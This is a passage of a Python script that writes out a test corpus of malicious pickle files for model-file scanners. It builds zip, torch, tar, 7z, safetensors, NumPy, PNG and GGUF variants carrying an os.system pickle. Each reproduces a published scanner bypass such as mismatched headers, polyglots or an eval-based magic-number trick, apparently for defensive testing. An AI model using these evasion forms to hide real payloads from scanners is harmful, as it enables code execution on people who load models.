        # `ZipInfo` ends a name at a NUL itself.
        member = zipped((name.replace("\x00", "?"), SYSTEM)).replace(b"data.pkl?", b"data.pkl\x00")
        case(f"name-{slug}.zip", member, f"a member named {name!r}", "picklescan GHSA-769v-p64c-89pr", "os.system")
    case("deflated.zip", zipped(("data.pkl", SYSTEM), method=zipfile.ZIP_DEFLATED), "deflated", "picklescan malicious1.zip", "os.system")
    case("bzip2.zip", zipped(("data.pkl", SYSTEM), method=zipfile.ZIP_BZIP2), "a member compressed with bzip2", "APPNOTE 4.4.5")
    case("lzma.zip", zipped(("data.pkl", SYSTEM), method=zipfile.ZIP_LZMA), "a member compressed with LZMA", "APPNOTE 4.4.5")
    case("crc.zip", plain.replace(b"echo corpus", b"echo CORPUS", 1), "a checksum that does not match", "picklescan GHSA-mjqp-26hc-grxg, malicious1_crc.zip", "os.system")
    for flag in (0x1, 0x20, 0x40):
        for where, archive in (("both", changed(plain, {6: flag}, {8: flag})), ("local", changed(plain, {6: flag})), ("central", changed(plain, None, {8: flag}))):
            case(f"flag-{flag:x}-{where}.zip", archive, f"the flag 0x{flag:x}", "picklescan GHSA-w8jq-xcqf-f792")
    case("encrypted.zip", encrypted("data.pkl", SYSTEM), "encrypted", "modelscan password_protected.zip")
    case("names-differ.zip", plain.replace(b"data.pkl", b"datap.kl", 1), "a header and the directory that disagree about the name", "picklescan GHSA-7q5r-7gvp-wc82, malicious1_central_directory.zip")
    case("method-differs.zip", changed(plain, {8: 8}), "a header and the directory that disagree about the compression", "APPNOTE 4.4.5")
    case("size-differs.zip", changed(plain, {18: 3, 22: 3}), "a header and the directory that disagree about the size", "APPNOTE 4.4.8", "os.system")
    descriptors = Unseekable()
    with zipfile.ZipFile(descriptors, "w") as archive:
        archive.writestr(zipfile.ZipInfo("data.pkl"), SYSTEM)
    case("descriptor.zip", bytes(descriptors.content), "sizes behind the data", "APPNOTE 4.3.9", "os.system")
    case("prepended.zip", b"junk before it " + plain, "bytes before an archive", "fickling test_polyglot.prepend_random_string")
    case("prepended-mark.zip", b"PK\x03\x04" + plain, "bytes before an archive that look like one", "fickling test_polyglot")
    case("appended.zip", plain + b"junk behind it", "bytes behind an archive", "APPNOTE 4.3.16")
    case("comment.zip", plain[:-2] + struct.pack("<H", 22) + b"PK\x05\x06" + bytes(18), "a second end in the comment", "APPNOTE 4.3.16")
    case("zip64-member.zip", zip64("data.pkl", SYSTEM), "a member in the form of Zip64", "APPNOTE 4.5.3")
    case("zip64-end.zip", with_zip64_end(plain), "an archive in the form of Zip64", "APPNOTE 4.3.14")
    case("twice-first.zip", zipped(("data.pkl", SYSTEM), ("data.pkl", BENIGN)), "the same name twice, the first one dangerous", "zipfile documentation", "os.system")
    case("twice-second.zip", zipped(("data.pkl", BENIGN), ("data.pkl", SYSTEM)), "the same name twice, the second one dangerous", "zipfile documentation", "os.system")
    case("undeclared-member.zip", without_directory_entry(("readme.txt", b"text"), ("data.pkl", SYSTEM)), "a member that the directory does not name", "APPNOTE 4.3.12")
    case("directory-with-content.zip", zipped(("archive/", SYSTEM)), "a directory that has content", "APPNOTE 4.3.8", "os.system")
    case("nested.zip", zipped(("inner.zip", plain)), "an archive in an archive", "modelaudit nested archives")
    case("nested-gzip.zip", zipped(("data.pkl.gz", gzip.compress(SYSTEM, mtime=0))), "a compressed pickle in an archive", "picklescan pull 68")
    case("cut.zip", plain[:-30], "an archive that is cut", "resource limits")


def torch_files():
    header = [("archive/version", b"3\n"), ("archive/byteorder", b"little")]
    for name in ("data.pkl", "constants.pkl", "data/0", ".data/serialization_id", "extra/notes.txt"):
        members = [("archive/data.pkl", BENIGN)] if name != "data.pkl" else []
        slug = name.replace("/", "-").replace(".", "-")
        case(f"torch-{slug}.pt", zipped(*members, (f"archive/{name}", SYSTEM), *header), f"torch.save with a dangerous {name}", "modelscan unsafe_zip_pytorch.pt", "os.system")
    case("torch-names-differ.pt", zipped(("archive/data.pkl", SYSTEM), *header).replace(b"archive/data.pkl", b"archive/data.pk1", 1), "torch.save with names that differ", "picklescan GHSA-7q5r-7gvp-wc82")
    magic, protocol, info, keys = (pickle.dumps(item, 2) for item in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}, []))
    bypass = program(by_line("__builtin__", "eval"), value("0x1950A86A20F9469CFC6C"), b"R", protocol=2)
    case("torch-magic.pt", bypass + protocol + info + keys + SYSTEM + pickle.dumps(None, 2), "the old format with a computed magic number", "picklescan pytorch_magic_bypass.pt", "__builtin__.eval", "os.system")
    parts = [magic, protocol, info, BENIGN, keys]
    for index, name in enumerate(("magic", "protocol", "info", "object", "keys")):
        content = b"".join(SYSTEM if at == index else part for at, part in enumerate(parts))
        case(f"torch-old-{name}.pt", content, f"the old format with a dangerous {name}", "torch/serialization.py _legacy_load", "os.system")
    storage = program(b"(" + text("storage") + by_line("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x02NtQ", protocol=2)
    case("torch-old-tail.pt", b"".join((magic, protocol, info, storage, pickle.dumps(["0"], 2))) + struct.pack("<q", 2) + bytes(8) + SYSTEM, "the old format with a pickle behind the tensors", "torch/serialization.py _legacy_load")
    old = io.BytesIO()
    with tarfile.open(fileobj=old, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, content in (("pickle", SYSTEM), ("storages", keys), ("tensors", keys)):
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    case("torch-old.tar", old.getvalue(), "the oldest format of torch.save, a tar archive", "fickling create_pytorch_legacy_tar")
    case("tar.tar.gz", gzip.compress(old.getvalue(), mtime=0), "a compressed tar archive", "fickling test_polyglot")


def seven_zip(name, content):
    """A 7z archive with one member, not compressed (7zFormat.txt)."""
    crc = struct.pack("<I", binascii.crc32(content))
    names = b"\0" + name.encode("utf-16-le") + b"\0\0"
    header = b"\x01\x04\x06\x00\x01\x09" + bytes([len(content)]) + b"\0\x07\x0b\x01\x00\x01\x01\x00\x0c" + bytes([len(content)]) + b"\x0a\x01" + crc + b"\0\x08\0\0\x05\x01\x11" + bytes([len(names)]) + names + b"\0\0"
    start = struct.pack("<QQI", len(content), len(header), binascii.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\0\x04" + struct.pack("<I", binascii.crc32(start)) + start + content + header


def polyglots():
    plain = zipped(("data.pkl", SYSTEM))
    case("nullifai.7z", seven_zip("data.pkl", SYSTEM), "an archive of 7-Zip", "nullifAI; picklescan malicious1.7z")
    case("pickle-zip.pkl", SYSTEM + zipped(("readme.txt", b"text")), "a pickle with an archive behind it", "fickling test_polyglot", "os.system")
    case("benign-zip.pkl", BENIGN + plain, "a harmless pickle with an archive behind it", "fickling test_polyglot")
    length = b"\x80\x02G\0\0\0\0\0"
    header = (b'{"_' + SYSTEM_CALL + b".").ljust(struct.unpack("<Q", length)[0], b" ")
    case("pickle.safetensors", length + header, "safetensors that is a pickle", "modelaudit pull 1612", "os.system")
    body = b'{"a":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(plain), len(plain))
    case("zip.safetensors", struct.pack("<Q", len(body)) + body + plain, "safetensors that ends as an archive", "modelaudit pull 1612")
    array = b"{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }\n" % len(plain)
    case("zip.npy", b"\x93NUMPY\x01\0" + struct.pack("<H", len(array)) + array + plain, "an array that ends as an archive", "fickling test_polyglot")
    case("zip.txt", b"# a text\n" + plain, "a text that ends as an archive", "fickling test_polyglot")
    case("zip.png", b"\x89PNG\r\n\x1a\n" + bytes(64) + plain, "an image that ends as an archive", "fickling test_polyglot")
    case("zip.gguf", b"GGUF\x03\0\0\0" + bytes(16) + plain, "GGUF that ends as an archive", "fickling test_polyglot")
    case("pickle.gguf", b"GGUF\x03\0\0\0\0" + SYSTEM_CALL + b".", "GGUF that is a pickle", "CPython Lib/pickle.py: G is BINFLOAT", "os.system")
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        entry = tarfile.TarInfo("cos\nsystem\n(S'echo corpus'\ntR.")
        tar.addfile(entry)
    case("pickle.tar", archive.getvalue(), "a tar archive that is a pickle", "fickling test_polyglot", "os.system")


def build():
    for part in (opcodes, operands, dotted, streams, frames, resources, callables, chains, disguises, numpy_files, joblib_files, zip_files, torch_files, polyglots):
        part()
    return CASES


def main():
    # An archive with the same name twice is what one of them is to be.
    warnings.simplefilter("ignore")
    directory = Path(sys.argv[1])
    directory.mkdir(parents=True, exist_ok=True)
    for described, content in build():
        (directory / described["file"]).write_bytes(content)
    (directory / "expected.json").write_text(json.dumps([described for described, _ in CASES], indent=1, ensure_ascii=False))


if __name__ == "__main__":
    main()
